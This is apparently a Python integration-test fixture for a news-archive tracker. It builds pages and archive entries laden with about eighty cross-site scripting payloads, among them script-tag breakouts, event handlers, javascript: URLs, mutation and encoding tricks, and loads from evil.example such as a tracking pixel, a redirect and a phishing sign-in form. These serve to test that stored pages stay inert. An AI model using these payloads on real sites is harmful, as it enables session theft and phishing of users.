"""Hostile pages: every known way to make a reader's browser run what a page contains."""

import json
from dataclasses import dataclass
from datetime import timedelta
from html import escape
from typing import Final

from tests.integration.web.newsroom_archive import NOW, keep
from tracker.archive.archive import Archive
from tracker.archive.articles import add_targets
from tracker.archive.sources import sync_source
from tracker.extraction.extractor import read
from tracker.model.source import Target

_RUN: Final = "window.hacked=1"
PAYLOADS: Final = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt\n>{_RUN}</ScRiPt\t>",
    f"<script/x>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f'<script type="module">{_RUN}</script>',
    f"<script src=data:text/javascript,{_RUN}></script>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"`><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"--!><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"</template><script>{_RUN}</script>",
    f"</svg></math><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}"',
    f"<img/src=x/onerror={_RUN}>",
    f"<img src=x onerror&#61;{_RUN}>",
    f"<image src=x onerror={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=parent.hacked=1>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={_RUN} src>'>",
    f"<body onload={_RUN}>",
    f"<body onpageshow={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<div style='animation:x' onanimationstart={_RUN}>",
    f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={_RUN}></b>",
    f"<iframe srcdoc='<script>parent.{_RUN.removeprefix('window.')}</script>'>",
    f"<iframe src='javascript:parent.{_RUN.removeprefix('window.')}'>",
    f"<object data='javascript:{_RUN}'>",
    f"<embed src='javascript:{_RUN}'>",
    f"<a href='javascript:{_RUN}' autofocus>x</a>",
    f"<a href='java\tscript:{_RUN}'>x</a>",
    f"<a href=' &#14; javascript:{_RUN}'>x</a>",
    f"<base href='javascript:{_RUN}//'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=import href=http://evil.example/x>",
    "<style>@import 'http://evil.example/x.css';*{display:none}</style>",
    "<p style=\"background:url('http://evil.example/x')\">",
    "<img src=http://evil.example/pixel.gif>",
    "<form action=http://evil.example/><button autofocus>Sign in again</button></form>",
    f'" autofocus onfocus="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f"x onfocus={_RUN} autofocus",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f"{{{{ cycler.__init__.__globals__ }}}}<script>{_RUN}</script>",
    f"{{% raw %}}<script>{_RUN}</script>",
    f"${{{_RUN}}} `<script>{_RUN}</script>`",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{_RUN}&amp;lt;/script&amp;gt;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\u202e<script>{_RUN}</script>\u2066",
    f"\x00<\x00script\x00>{_RUN}</script>",
    f"\x1b]0;x\x07<script>{_RUN}</script>",
    f"\ufffe\ufeff<script>{_RUN}</script>",
    f"<del><ins><mark><script>{_RUN}</script></mark></ins></del>",
    f"<a id=hacked></a><form name=body><input name=dataset><script>{_RUN}</script>",
    "<p id=keys></p><p id=find></p>",
)


@dataclass(frozen=True)
class Hostile:
    """A stored hostile article, and the name of its source."""

    ident: str
    source: str


def page(place: int, edition: int) -> bytes:
    """Return a page with the payloads at `place`: as markup, as text, in its metadata."""
    mine = [PAYLOADS[(place + step) % len(PAYLOADS)] for step in range(4)]
    first, second, third, fourth = mine
    data = {"@type": "NewsArticle", "headline": second, "author": {"@type": "Person", "name": third}, "url": fourth}
    quoted = json.dumps(data).replace("</", "<\\/")
    told = "".join(f"<p>It was said on {edition} occasions that {escape(each)} would be enough.</p>" for each in mine)
    meta = "".join(
        f'<meta property="{name}" content="{escape(each)}">'
        for name, each in (("og:title", first), ("og:description", second), ("article:section", third))
    )
    return (
        f'<!doctype html><html lang="{escape(fourth)}"><head><title>{escape(first)}</title>{meta}'
        f'<link rel="canonical" href="{escape(third)}"><script type="application/ld+json">{quoted}</script></head>'
        f"<body><article><h1>{escape(first)} {edition}</h1><p class='byline'>By {escape(third)}</p>"
        f"{told}<p>{first}{second} Nobody was hurt, {edition} witnesses said.</p>"
        f"<p class='correction'>Correction: an earlier version said {escape(fourth)}, it is {edition}.</p>"
        f"</article></body></html>"
    ).encode("utf-8", "surrogatepass")


def keep_all(store: Archive) -> list[Hostile]:
    """Store two versions of a page for each payload, with a URL and a source that are hostile as well."""
    found = []
    for place, payload in enumerate(PAYLOADS):
        source = f"{place} {' '.join(payload.split())}"
        url = f"https://evil.example/{place}?{escape(payload)}"
        sync_source(store, source, [], NOW)
        (tracked,) = add_targets(store, source, [Target(url, payload)], NOW)
        bodies = [page(place, edition) for edition in (2, 3)]
        states = [
            (NOW + timedelta(minutes=place, seconds=n), body, read(body, url).article) for n, body in enumerate(bodies)
        ]
        keep(store, tracked.id, tracked.url, states)
        found.append(Hostile(tracked.id, tracked.source))
    return found
